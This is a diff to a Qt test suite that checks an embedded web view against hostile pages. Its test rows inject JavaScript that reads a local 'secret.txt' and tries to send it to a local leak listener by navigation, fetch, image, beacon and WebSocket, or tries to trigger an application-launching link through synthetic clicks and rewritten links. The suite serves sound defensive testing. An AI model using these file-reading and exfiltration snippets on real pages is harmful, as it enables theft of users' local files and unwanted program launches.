@@ -150,89 +150,70 @@ private slots:
         QVERIFY(m_window->isMinimized());
     }
     void hostilePageSendsAndStartsNothing_data() {
-        QTest::addColumn<QString>("script"); // added to a page that defines read(), L and I()
-        QTest::addColumn<QString>("act"); // what the user does: click "empty", key "Down", a link
-        QTest::addColumn<bool>("starts"); // the act starts the icon
+        QTest::addColumn<QString>("script"); // in a page that defines read(), got, L and I()
+        QTest::addColumn<QString>("act");    // the user's: click "empty" space, key "Down", a link
         const QString onLoad = "addEventListener('load', () => %1)";
+        // Tries to start the icon, then to send the secret out.
+        const QString both = "addEventListener('%1', () => { location = I(); setTimeout(() => "
+                             "location = L + read(), 300); })";
         QTest::newRow("read on load, sent to a &comma; address")
-            << onLoad.arg("location = L + read()") << "" << false;
+            << onLoad.arg("location = L + read()") << "";
         QTest::newRow("read on load, sent by requests")
-            << onLoad.arg("{const d = read(); fetch(L + d, {mode: 'no-cors'}); "
-                          "new Image().src = L + d; navigator.sendBeacon(L, d); "
-                          "new WebSocket('ws' + L.slice(4) + d);}")
-            << "" << false;
-        QTest::newRow("local file in a frame, read on load")
-            << "addEventListener('load', () => { const f = document.createElement('iframe'); "
-               "f.onload = () => { let d = 'none'; try { d = f.contentDocument.body.innerText } "
-               "catch (e) {} location = L + d; }; f.src = 'secret.txt'; "
-               "document.body.append(f); })"
-            << "" << false;
-        QTest::newRow("read on a click elsewhere")
-            << "addEventListener('mousedown', () => location = L + read())"
-            << "empty" << false;
-        QTest::newRow("read on a key press") << "addEventListener('keydown', () => location = "
-                                                "L + read())"
-                                             << "Down" << false;
-        QTest::newRow("icon link on a click elsewhere")
-            << "addEventListener('mousedown', () => location = I())"
-            << "empty" << false;
-        QTest::newRow("icon link on a key press")
-            << "addEventListener('keydown', () => location = I())"
-            << "Down" << false;
+            << onLoad.arg("{const d = read(); fetch(L + d, {mode: 'no-cors'}); new Image().src "
+                          "= L + d; navigator.sendBeacon(L, d); new WebSocket('ws' + L.slice(4) "
+                          "+ d);}")
+            << "";
+        QTest::newRow("local file read in a frame")
+            << onLoad.arg("{const f = document.createElement('iframe'); f.onload = () => { "
+                          "try { got += f.contentDocument.body.innerText } catch (e) {} location "
+                          "= L + got; }; f.src = 'secret.txt'; document.body.append(f);}")
+            << "";
+        QTest::newRow("click elsewhere") << both.arg("mousedown") << "empty";
+        QTest::newRow("key press") << both.arg("keydown") << "Down";
         QTest::newRow("link made and clicked after a click")
             << "addEventListener('click', () => setTimeout(() => { const a = "
                "document.createElement('a'); a.href = I(); document.body.append(a); a.click(); "
                "}, 1200))"
-            << "empty" << false;
+            << "empty";
         QTest::newRow("safe link rewritten on click")
-            << "addEventListener('load', () => document.getElementById('safe').onclick = "
-               "function () { this.href = I(); })"
-            << "Safe" << false;
+            << onLoad.arg("safe.onclick = function () { this.href = I(); }") << "Safe";
         QTest::newRow("synthetic events on the icon")
             << onLoad.arg("{const a = document.querySelector('a[href^=\"pm:\"]'); a.focus(); "
-                          "for (const t of ['keydown', 'keypress', 'keyup']) a.dispatchEvent(new "
-                          "KeyboardEvent(t, {key: 'Enter', bubbles: true})); for (const t of "
-                          "['mousedown', 'mouseup', 'click']) a.dispatchEvent(new MouseEvent(t, "
-                          "{bubbles: true, detail: 1}));}")
-            << "" << false;
-        QTest::newRow("Enter on the icon") << ""
-                                           << "Enter" << true;
+                          "for (const t of ['keydown', 'keypress', 'mousedown', 'click']) "
+                          "a.dispatchEvent(new (t[0] == 'k' ? KeyboardEvent : MouseEvent)(t, "
+                          "{key: 'Enter', bubbles: true, detail: 1}));}")
+            << "";
     }
     void hostilePageSendsAndStartsNothing() {
         QFETCH(QString, script);
         QFETCH(QString, act);
-        const QString header =
-            QStringLiteral("<a id=\"safe\" href=\"#safe\">Safe</a><script>const L = "
-                           "'http://127.0.0.1:%1/leak&comma;?d=', I = () => "
-                           "document.querySelector('a[href^=\"pm:\"]').href; function read() "
-                           "{ try { const x = new XMLHttpRequest(); x.open('GET', 'secret.txt', "
-                           "false); x.send(); return x.responseText; } catch (e) { return "
-                           "'none'; } } %2</script>")
-                .arg(m_leak.serverPort())
-                .arg(script);
-        QVERIFY(show(writePage({"Header HTML=" + header}, m_icons)));
+        QVERIFY(show(writePage(
+            {"Header HTML=<a id=\"safe\" href=\"#safe\">Safe</a><script>const L = "
+             "'http://127.0.0.1:" +
+             QString::number(m_leak.serverPort()) +
+             "/leak&comma;?d=', I = () => document.querySelector('a[href^=\"pm:\"]').href; let "
+             "got = ''; function read() { try { const x = new XMLHttpRequest(); x.open('GET', "
+             "'secret.txt', false); x.send(); return got += x.responseText; } catch (e) { return "
+             "'none'; } } " +
+             script + "</script>"},
+            m_icons)));
         QWidget* input = m_window->view()->focusProxy();
         if (act == QLatin1String("empty"))
             QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(5, input->height() - 5));
         else if (act == QLatin1String("Down"))
             QTest::keyClick(input, Qt::Key_Down);
-        else if (act == QLatin1String("Enter"))
-            m_window->view()->page()->runJavaScript(
-                "document.querySelector('a[href^=\"pm:\"]').focus()",
-                [input](const QVariant&) { QTest::keyClick(input, Qt::Key_Return); });
         else if (!act.isEmpty())
             QVERIFY(clickLink(act));
-        QFETCH(bool, starts);
-        if (starts)
-            QCOMPARE(record().mid(3), QStringList{"clicked"});
-        else
-            QVERIFY(record(3000).isEmpty());
-        QVERIFY2(m_leaked.isEmpty(), m_leaked.constData());
-        // The page still works: the user's own click starts the icon.
-        QFile::remove(m_record);
-        QVERIFY(clickLink("Run"));
+        QVERIFY(record(3000).isEmpty());
+        QVariant got;
+        m_window->view()->page()->runJavaScript("got", [&got](const QVariant& v) { got = v; });
+        QTRY_COMPARE(got, QVariant(QString()));
+        // The page still works: the user's own Enter on the icon starts it.
+        m_window->view()->page()->runJavaScript(
+            "document.querySelector('a[href^=\"pm:\"]').focus()",
+            [input](const QVariant&) { QTest::keyClick(input, Qt::Key_Return); });
         QCOMPARE(record().mid(3), QStringList{"clicked"});
-        QVERIFY(m_prompter.messages.isEmpty() && m_leaked.isEmpty());
+        QVERIFY2(m_prompter.messages.isEmpty() && m_leaked.isEmpty(), m_leaked.constData());
     }
     void anotherPageTakesOverTheWindow_data() {
         QTest::addColumn<QString>("link");
